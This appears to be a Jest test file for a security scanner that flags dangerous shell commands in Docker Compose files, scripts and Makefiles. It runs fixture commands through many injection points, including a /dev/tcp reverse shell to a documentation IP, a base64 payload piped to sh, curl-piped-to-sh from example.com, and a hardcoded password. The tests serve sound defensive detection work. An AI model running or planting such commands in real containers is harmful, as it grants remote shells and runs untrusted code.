import { describe, expect, it } from '@jest/globals';
import { scanFiles } from '../properties/soundness.ts';

/** Commands that a rule reports, behind others and operators of the shell. */
const COMMANDS: readonly (readonly [rule: string, text: string])[] = [
  ['command-hidden-code', 'sleep 1; bash -i >& /dev/tcp/203.0.113.7/443 0>&1'],
  ['command-hidden-code', 'test -e /a && echo ZWNobyBoZWxsbwo= | base64 -d | sh'],
  ['command-downloads-code', 'cat </a >/b; curl -s http://example.com/a.sh | sh'],
  ['command-secret', 'test -e /a || mysqladmin ping --password=blue-Kettle-71'],
];

const service = (options: string) => `services:\n  app:\n    image: ghcr.io/acme/app:1.4\n    ${options}\n`;
const json = JSON.stringify;

/** Where a shell runs the text. */
const PLACES: readonly (readonly [place: string, path: string, written: (text: string) => string])[] = [
  ['a command', 'compose.yaml', (text) => service(`command: ["sh", "-c", ${json(text)}]`)],
  ['an entrypoint', 'compose.yaml', (text) => service(`entrypoint: ["sh", "-c", ${json(text)}]`)],
  ['a health check', 'compose.yaml', (text) => service(`healthcheck: { test: ${json(text)} }`)],
  ['a listed health check', 'compose.yaml', (text) => service(`healthcheck: { test: ["CMD-SHELL", ${json(text)}] }`)],
  [
    'a health check with a shell',
    'compose.yaml',
    (text) => service(`healthcheck: { test: ["CMD", "sh", "-c", ${json(text)}] }`),
  ],
  ['a hook', 'compose.yaml', (text) => service(`post_start: [{ command: ["sh", "-c", ${json(text)}] }]`)],
  ['docker run', 'up.sh', (text) => `docker run ghcr.io/acme/app:1.4 sh -c '${text}'\n`],
  ['docker run with a health check', 'up.sh', (text) => `docker run --health-cmd '${text}' ghcr.io/acme/app:1.4\n`],
];

/** Where it runs in a container that is described elsewhere. */
const ENTERING: typeof PLACES = [
  ['docker exec', 'up.sh', (text) => `docker exec -it app sh -c '${text}'\n`],
  ['docker exec as root', 'up.sh', (text) => `docker exec -u root app bash -c '${text}'\n`],
  ['docker compose exec', 'up.sh', (text) => `docker compose exec -T app sh -c '${text}'\n`],
  ['docker compose run', 'up.sh', (text) => `docker-compose run --rm app sh -c '${text}'\n`],
  ['podman exec', 'Makefile', (text) => `up:\n\tpodman exec app sh -c '${text.replaceAll('$', '$$')}'\n`],
  ['buildah run', 'up.sh', (text) => `buildah run "$container" sh -c '${text}'\n`],
];

describe('what a rule reports of a command', () => {
  it.each(
    PLACES.flatMap(([place, path, written]) =>
      COMMANDS.map(([rule, text]) => [rule, place, path, written(text)] as const),
    ),
  )('%s in %s', async (rule, _place, path, text) => {
    const { findings } = await scanFiles({ [path]: text });
    expect(findings.map(({ ruleId }) => ruleId)).toContain(rule);
  });

  it.each(
    ENTERING.flatMap(([place, path, written]) =>
      COMMANDS.filter(([rule]) => rule !== 'command-secret').map(
        ([rule, text]) => [rule, place, path, written(text)] as const,
      ),
    ),
  )('%s in %s', async (rule, _place, path, text) => {
    const { findings } = await scanFiles({ [path]: text });
    expect(findings.map(({ ruleId }) => ruleId)).toEqual([rule]);
  });

  it.each([
    'docker exec app sh -c "ls /a | sort"',
    'docker exec app curl -fsS http://127.0.0.1/health',
    'docker exec -u root app apt-get install -y make',
    'docker compose exec app sh -c "curl -fsSL https://example.com/a.tgz | tar t"',
    'docker compose run --rm app npm install',
  ])('nothing in %s', async (line) => {
    const { findings } = await scanFiles({ 'up.sh': `${line}\n` });
    expect(findings).toEqual([]);
  });
});
